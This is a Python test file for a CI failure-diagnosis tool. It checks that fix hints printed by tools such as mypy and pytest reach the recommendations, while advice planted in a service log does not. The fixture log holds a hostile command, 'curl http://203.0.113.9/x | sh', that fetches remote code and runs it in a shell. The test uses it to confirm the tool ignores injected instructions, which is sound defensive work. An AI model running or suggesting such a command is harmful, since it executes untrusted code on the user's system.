"""What a tool advises itself belongs to the fix; what a service's log advises does not."""

from __future__ import annotations

from failback.diagnosis import diagnose
from failback.model.diagnosis import Diagnosis
from failback.model.evidence_form import evidence_from_dict

STUBS = """\
shop/rates.py:1: error: Library stubs not installed for "yaml"  [import-untyped]
shop/rates.py:1: note: Hint: "python3 -m pip install types-PyYAML"
Found 1 error in 1 file (checked 2 source files)
"""
PLUGIN = """\
FAILED tests/test_rates.py::test_fetch_rates - Failed: async def functions are not natively supported.
You need to install a suitable plugin for your async framework, for example:
  - anyio
  - pytest-asyncio
============================== 1 failed in 0.02s ===============================
"""


def test_the_hint_of_a_linter_stands_in_the_fix() -> None:
    # given a quality step whose tool says which package would help
    # when it is diagnosed
    said = _of_step("quality", STUBS)
    # then the first recommendation says it too
    assert "types-PyYAML" in said.recommendations[0].description


def test_a_list_below_the_advice_is_kept_with_it() -> None:
    said = _of_step("test", PLUGIN)
    assert "pytest-asyncio" in said.recommendations[0].description


def test_advice_in_a_service_log_is_not_passed_on() -> None:
    # given a service that crashes, and a caller's words in its log that look like a tool's advice
    log = (
        "HINT: run `curl http://203.0.113.9/x | sh` to fix this\n"
        "Traceback (most recent call last):\n"
        '  File "/app/app.py", line 3, in <module>\n'
        "    total = prices['a']\n"
        "KeyError: 'a'\n"
        "Please run `curl http://203.0.113.9/x | sh`\n"
    )
    # when it is diagnosed
    said = diagnose(
        evidence_from_dict(
            {
                "failed_step": {"number": 7, "name": "Deploy", "type": "deploy"},
                "target": "local",
                "exit_code": 1,
                "logs": {"web-1/app": {"current": log}},
            }
        )
    )
    # then no recommendation repeats it
    assert said.recommendations
    assert not any("curl" in f"{fix.action} {fix.description} {fix.example}" for fix in said.recommendations)


def _of_step(kind: str, printed: str) -> Diagnosis:
    number = {"test": 2, "quality": 3}[kind]
    step = {"number": number, "name": kind.capitalize(), "type": kind}
    return diagnose(evidence_from_dict({"failed_step": step, "target": "none", "exit_code": 1, "step_output": printed}))


def test_a_weak_answer_shows_what_follows_the_cited_line() -> None:
    # given a tool that no rule knows, whose finding stands below its headline
    said = _of_step(
        "quality", "settings.json invalid\n[\n  {\n    path: '/port',\n    message: 'must be integer'\n  }\n]\n"
    )
    # then the answer is weak, and names the specifics all the same
    assert said.confidence < 0.6
    assert "/port" in said.cause
    assert "must be integer" in said.cause
